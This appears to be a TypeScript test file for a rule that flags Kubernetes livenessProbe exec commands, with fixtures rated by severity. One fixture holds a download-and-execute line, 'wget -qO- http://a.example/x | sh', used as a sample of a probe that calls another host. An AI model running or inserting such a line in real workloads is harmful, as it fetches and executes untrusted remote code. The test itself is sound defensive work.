import { workload } from "../../workload-manifest";
import { testRule } from "./test-rule";

testRule("workload/exec-probe", [
  {
    title: "a command",
    text: workload({ container: "livenessProbe: { exec: { command: [pg_isready] } }" }),
    finds: ["low spec.template.spec.containers.0.livenessProbe.exec.command > command"],
    says: ['container "web" runs a command as livenessProbe'],
  },
  {
    title: "a download",
    text: workload({
      container: 'livenessProbe: { exec: { command: [sh, -c, "wget -qO- http://a.example/x | sh"] } }',
    }),
    finds: ["medium spec.template.spec.containers.0.livenessProbe.exec.command > command"],
    says: ['container "web" runs a command as livenessProbe that calls another host'],
  },
  {
    title: "a call of its own port",
    text: workload({
      container: 'livenessProbe: { exec: { command: [curl, "http://localhost:8080/healthz"] } }',
    }),
    finds: ["low spec.template.spec.containers.0.livenessProbe.exec.command > command"],
  },
  {
    title: "an httpGet probe",
    text: workload({ container: "livenessProbe: { httpGet: { port: 80 } }" }),
    finds: [],
  },
]);
